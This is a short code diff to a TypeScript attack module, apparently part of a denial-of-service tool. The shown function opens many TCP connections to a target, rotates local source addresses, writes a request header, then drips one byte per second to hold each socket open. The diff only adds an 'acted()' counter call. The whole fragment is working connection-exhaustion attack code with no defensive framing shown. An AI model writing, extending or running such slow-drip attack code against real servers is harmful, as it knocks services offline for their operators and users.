@@ -1,6 +1,6 @@
 import { request as httpRequest } from 'node:http';
 import { connect } from 'node:net';
-import { type Attack, int, repeatedly, sourceOf, type Target } from './attacker.ts';
+import { type Attack, acted, int, repeatedly, sourceOf, type Target } from './attacker.ts';
 
 interface Slowness {
   readonly port: number;
@@ -19,6 +19,7 @@ async function dripping(target: Target, slowness: Slowness): Promise<never> {
     const socket = connect({ port, host, localAddress: sourceOf(target, at % addresses) });
     socket.on('error', () => {});
     socket.write(head);
+    acted();
     const drip = setInterval(() => socket.writable && socket.write('x'), 1000);
     socket.on('close', () => {
       clearInterval(drip);
